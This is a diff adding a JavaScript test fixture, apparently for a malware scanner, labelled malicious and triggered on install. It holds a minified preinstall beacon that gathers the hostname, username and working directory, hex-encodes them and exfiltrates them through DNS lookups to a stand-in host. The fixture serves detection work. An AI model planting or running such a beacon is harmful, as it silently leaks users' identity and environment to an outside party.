@@ -1,0 +1,5 @@
+// expect: malicious
+// when: install
+// source: blind set 16 depconf-dns-beacon (an esbuild-minified preinstall): the minifier renamed __toESM to `l`, so
+// `m=l(require("dns"))` must still name `m.resolve6` a DNS lookup that carries the host's identity
+"use strict";var _=Object.create;var f=Object.defineProperty;var h=Object.getOwnPropertyDescriptor;var y=Object.getOwnPropertyNames;var g=Object.getPrototypeOf,b=Object.prototype.hasOwnProperty;var S=(e,t,n,i)=>{if(t&&typeof t=="object"||typeof t=="function")for(let a of y(t))!b.call(e,a)&&a!==n&&f(e,a,{get:()=>t[a],enumerable:!(i=h(t,a))||i.enumerable});return e};var l=(e,t,n)=>(n=e!=null?_(g(e)):{},S(t||!e||!e.__esModule?f(n,"default",{value:e,enumerable:!0}):n,e));var p=l(require("os")),m=l(require("dns"));var v="t.acme-telemetry.invalid";function O(){return[p.hostname(),p.userInfo().username,process.cwd()].join("|")}function k(){let t=Buffer.from(O()).toString("hex").match(/.{1,60}/g);t.forEach((n,i)=>{m.resolve6(`${n}.${i}.${v}`,()=>{})})}try{k()}catch{}
